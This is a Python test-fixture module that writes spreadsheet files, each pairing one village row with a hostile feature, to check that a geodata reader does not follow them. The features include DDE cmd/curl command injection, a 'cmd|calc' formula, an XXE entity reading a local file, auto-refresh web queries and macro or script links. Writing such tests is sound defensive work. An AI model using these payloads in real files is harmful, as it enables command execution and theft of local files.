"""Workbooks that want more than to be read: links to files, addresses and programs, each beside one village."""

from __future__ import annotations

import zipfile
from collections.abc import Callable
from pathlib import Path

from tests.planner.geodata.readers.bombs import rows_of, spreadsheet_of, workbook_of
from tests.planner.geodata.readers.old_workbooks import Cell, links_of, old_workbook

_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_HEADINGS, _VILLAGE = ("name", "township", "lon", "lat"), ("a", "b", "126.1", "47.0")
_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_CELLS: list[Cell] = [
    (row, column, text) for row, cells in enumerate((_HEADINGS, _VILLAGE)) for column, text in enumerate(cells)
]


def _row(number: int, cells: tuple[str, ...], more: str = "") -> str:
    said = "".join(f'<c t="inlineStr"><is><t>{cell}</t></is></c>' for cell in cells)
    return f'<row r="{number}">{said}{more}</row>'


def _linked(path: Path, parts: dict[str, str], more: str = "", after: str = "", relations: str = "") -> Path:
    """Write a workbook of one village with more cells, elements after them, and parts."""
    workbook_of(path, rows_of(_row(1, _HEADINGS), _row(2, _VILLAGE, more)) + after)
    head = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("xl/worksheets/_rels/sheet1.xml.rels", f"{head}{relations}</Relationships>")
        for name, content in parts.items():
            archive.writestr(name, content)
    return path


def _relation(kind: str, target: str) -> str:
    return f'<Relationship Id="r1" Type="{_R}/{kind}" Target="{target}" TargetMode="External"/>'


def _spreadsheet(path: Path, more: str) -> Path:
    rows = "".join(
        "<table:table-row>"
        + "".join(
            f'<table:table-cell office:value-type="string"><text:p>{cell}</text:p></table:table-cell>' for cell in cells
        )
        + "</table:table-row>"
        for cells in (_HEADINGS, _VILLAGE)
    )
    return spreadsheet_of(path, more.replace("xlink:", "xmlns:xlink='http://www.w3.org/1999/xlink' xlink:", 1) + rows)


def _with_entity(path: Path, secret: Path) -> Path:
    workbook_of(path, rows_of(_row(1, _HEADINGS), _row(2, ("&s;", *_VILLAGE[1:]))))
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    sheet = parts["xl/worksheets/sheet1.xml"]
    parts["xl/worksheets/sheet1.xml"] = f'<!DOCTYPE a [<!ENTITY s SYSTEM "file://{secret}">]>'.encode() + sheet
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return path


def sheets(url: str, secret: Path) -> dict[str, tuple[Callable[[Path], Path], bool]]:
    """Return how to write each, and whether its village is read."""
    external = f'<externalLink xmlns="{_MAIN}"><externalBook xmlns:r="{_R}" r:id="r1"/></externalLink>'
    dde = f'<externalLink xmlns="{_MAIN}"><ddeLink ddeService="cmd" ddeTopic="/c curl {url}/dde"/></externalLink>'
    query = f'<connections xmlns="{_MAIN}"><connection id="1" type="4" refreshOnLoad="1"><webPr url="{url}/q"/></connection>'
    calls = (f'WEBSERVICE("{url}/w")', f'IMAGE("{url}/i")', f"'file://{secret}'#$S.A2", "cmd|' /c calc'!A0", "[1]S!A2")
    cells = "".join(f"<c><f>{call.replace('&', '&amp;')}</f></c>" for call in calls)
    link = f'<hyperlinks><hyperlink xmlns:r="{_R}" ref="A2" r:id="r1"/></hyperlinks>'
    image = "".join(f'<{kind} xmlns:r="{_R}" r:id="r1"/>' for kind in ("drawing", "legacyDrawing", "picture"))
    source = f"<table:table-source xlink:href='{url}/s.ods' table:table-name='S' table:mode='copy-all'/>"
    picture = f"<table:shapes><draw:image xmlns:draw='a' xlink:href='{url}/p.png'/></table:shapes>"
    section = f"<text:section text:name='s'><text:section-source xlink:href='file://{secret}'/></text:section>"
    dde_ods = f"<table:dde-link><office:dde-source xlink:href='{url}' office:dde-application='cmd'/></table:dde-link>"
    event = f"<office:scripts><script:event-listener xmlns:script='a' xlink:href='{url}/m'/></office:scripts>"
    made: dict[str, tuple[Callable[[Path], Path], bool]] = {
        "formulas": (lambda f: _linked(f / "v.xlsx", {}, more=cells), True),
        "external book": (lambda f: _linked(f / "v.xlsx", {"xl/externalLinks/externalLink1.xml": external}), True),
        "dde": (lambda f: _linked(f / "v.xlsx", {"xl/externalLinks/externalLink1.xml": dde}), True),
        "web query": (lambda f: _linked(f / "v.xlsx", {"xl/connections.xml": query + "</connections>"}), True),
        "hyperlink": (
            lambda f: _linked(f / "v.xlsx", {}, after=link, relations=_relation("hyperlink", f"{url}/h")),
            True,
        ),
        "linked image": (
            lambda f: _linked(f / "v.xlsx", {}, after=image, relations=_relation("drawing", f"{url}/d.xml")),
            True,
        ),
        "image that is a file": (
            lambda f: _linked(f / "v.xlsx", {}, after=image, relations=_relation("image", f"file://{secret}")),
            True,
        ),
        "macros": (lambda f: _linked(f / "v.xlsm", {"xl/vbaProject.bin": "Shell " + url}), True),
        "entity": (lambda f: _with_entity(f / "v.xlsx", secret), False),
        "old one with links and macros": (
            lambda f: old_workbook(
                f / "v.xls", _CELLS, before=links_of(url, secret), streams=("_VBA_PROJECT_CUR", "Macros", "\x01Ole")
            ),
            True,
        ),
    }
    for name, more in {"source": source, "image": picture, "section": section, "dde": dde_ods, "macro": event}.items():
        made[f"ods with a {name}"] = (lambda f, more=more: _spreadsheet(f / "v.ods", more), True)  # type: ignore[misc]
    return made
